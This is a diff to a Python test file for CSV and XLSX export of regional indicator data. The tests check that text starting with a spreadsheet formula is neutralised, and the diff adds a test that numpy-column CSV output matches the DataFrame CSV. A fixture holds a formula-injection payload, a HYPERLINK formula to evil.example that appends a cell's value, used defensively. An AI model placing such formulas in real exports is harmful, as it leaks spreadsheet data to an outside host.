@@ -7,6 +7,7 @@ import csv
 import io
 from io import BytesIO
 
+import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
@@ -18,6 +19,8 @@ from data_access.db import dispose_engines
 from data_access.iks import iks_area_table
 from domain.wilayah import Scope
 from exports.views import iks_page_download, resolve_wilayah, to_csv, to_xlsx
+from exports.writers import columns_to_csv
+from indicators.columns import Columns
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 FRAME = pd.DataFrame({
@@ -34,6 +37,22 @@ def test_csv_text_that_starts_a_formula_begins_with_a_quote_and_numbers_are_unto
     assert [r[2] for r in rows[1:]] == ["-0.25", "0.5", "-3.0", "", "0.0"]
     assert [r[3] for r in rows[1:]] == ["-3", "4", "0", "7", "1"]
     assert [r[0] for r in rows[1:]] == FRAME["kode"].tolist()  # other text as it was
+
+
+def test_csv_of_numpy_columns_is_the_frames_csv_byte_for_byte():
+    """columns_to_csv (a page's download without a DataFrame) writes what to_csv writes:
+    hostile text quoted, floats as numpy prints them, NaN and None empty."""
+    columns = Columns(
+        kode=np.array(FRAME["kode"].tolist(), dtype=object),
+        nama=np.array(FRAME["nama"].tolist(), dtype=object),
+        nilai=np.array([0.23749999999999996, 1e-05, 1e16, -0.0, np.nan]),
+        jumlah=np.array([-3, 4, 0, 7, 1]),
+        bulat=np.array([12, None, 0, -1, 3], dtype=object),
+        status=np.array(["baik", None, 'a "b", c', "", "=1+1"], dtype=object),
+    )
+    # whole numbers with gaps: what tidy_pws writes as Int64
+    frame = pd.DataFrame({**columns, "bulat": pd.array([12, None, 0, -1, 3], dtype="Int64")})
+    assert columns_to_csv(columns) == to_csv(frame)
 
 
 def test_xlsx_text_that_starts_a_formula_is_text_and_numbers_are_numbers():
